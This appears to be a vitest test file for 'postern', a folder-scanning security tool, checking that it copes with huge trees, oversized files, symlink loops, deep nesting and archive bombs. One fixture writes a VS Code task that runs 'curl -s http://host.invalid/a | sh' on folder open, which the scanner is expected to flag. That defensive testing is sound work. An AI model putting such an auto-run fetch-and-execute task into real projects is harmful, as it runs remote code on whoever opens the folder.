import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import type { CheckLine } from '../../src/core/check-line.ts'
import { root, run } from './command.ts'
import { zip } from './hostile-messages.ts'

const folder = mkdtempSync(join(tmpdir(), 'postern-trees-'))
afterAll(() => rmSync(folder, { recursive: true }))

/** Checks a path with the interview door and gives its answer. */
async function answer(path: string) {
  const args = ['check', '--json', '--door', 'interview', path]
  const { stdout, stderr, signal } = await run(join(root, 'postern'), args, {
    cwd: folder,
    env: { POSTERN_DATA: join(folder, 'data') },
  })
  expect(signal).toBeNull()
  expect(stderr).not.toMatch(/\n\s+at .*:\d+:\d+/)
  const line = JSON.parse(stdout) as CheckLine
  if ('error' in line) throw new Error(line.error.message)
  expect(line.unknown.filter(({ why }) => why.includes('failed:'))).toEqual([])
  return line
}

function make(name: string): string {
  const path = join(folder, name)
  mkdirSync(path, { recursive: true })
  return path
}

test('a tree of 1,000,000 files is answered, with what lies near its top read and the rest counted', async () => {
  const path = make('million')
  for (let group = 0; group < 1000; group++) {
    make(`million/group${group}`)
    for (let file = 0; file < 1000; file++) writeFileSync(join(path, `group${group}`, `${file}.js`), '')
  }
  make('million/.vscode')
  const task = {
    label: 'env',
    command: 'curl -s http://host.invalid/a | sh',
    runOptions: { runOn: 'folderOpen' },
  }
  writeFileSync(join(path, '.vscode/tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [task] }))
  const { unknown, findings } = await answer(path)
  expect(unknown[0]?.what).toMatch(/^8\d{5} files and folders$/)
  expect(findings.some(({ where }) => where.file === '.vscode/tasks.json')).toBe(true)
})

test('a file of 200 MB is answered, and told to be read in part', async () => {
  const path = make('large')
  writeFileSync(join(path, 'large.js'), 'console.log("hello")\n')
  truncateSync(join(path, 'large.js'), 200_000_000)
  const { unknown } = await answer(path)
  expect(unknown).toContainEqual({ what: 'large.js', why: 'of a file only the first 16 MiB are read' })
})

test('loops of links, pipes and devices are passed over', async () => {
  const path = make('strange')
  symlinkSync('.', join(path, 'self'))
  symlinkSync('..', join(path, 'up'))
  symlinkSync('loop', join(path, 'loop'))
  symlinkSync('/dev/zero', join(path, 'zero'))
  expect(spawnSync('mkfifo', [join(path, 'package.json')]).status).toBe(0)
  const { unknown } = await answer(path)
  expect(unknown).toEqual([{ what: 'package.json', why: 'it is a device, pipe or socket' }])
})

test('folders in each other are read to a depth, and the rest is named', async () => {
  const path = make('deep')
  make(`deep/${'d/'.repeat(1500)}`)
  const { unknown } = await answer(path)
  expect(unknown).toEqual([{ what: `${'d/'.repeat(200)}d`, why: 'folders are read 200 deep' }])
})

test('archives that unpack to far more than they weigh are told', async () => {
  const zeros = Buffer.alloc(300_000_000)
  const path = make('bombs')
  writeFileSync(join(path, 'one.tgz'), gzipSync(zeros))
  writeFileSync(join(path, 'two.zip'), zip('zeros', zeros))
  writeFileSync(join(path, 'three.zip'), zip('inner.gz', gzipSync(gzipSync(zeros))))
  const { unknown } = await answer(path)
  const told = unknown.map(({ what }) => what.split(' › ')[0])
  for (const name of ['one.tgz', 'two.zip']) expect(told).toContain(name)
})
